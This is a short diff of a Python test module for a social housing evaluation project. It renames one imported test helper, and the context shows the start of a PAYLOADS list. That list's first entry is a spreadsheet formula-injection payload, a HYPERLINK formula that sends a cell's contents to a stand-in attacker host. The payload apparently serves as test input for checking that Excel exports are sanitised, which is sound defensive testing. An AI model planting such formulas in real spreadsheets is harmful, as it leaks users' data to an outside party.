@@ -8,7 +8,7 @@ from openpyxl import load_workbook
 
 from boligsosial.evaluation import services
 from boligsosial.evaluation.tests import factories as f
-from boligsosial.evaluation.tests.test_questionnaire import _all_required
+from boligsosial.evaluation.tests.test_questionnaires import _all_required
 
 PAYLOADS = [
     '=HYPERLINK("http://angriper.example/?d="&A1;"Klikk")',
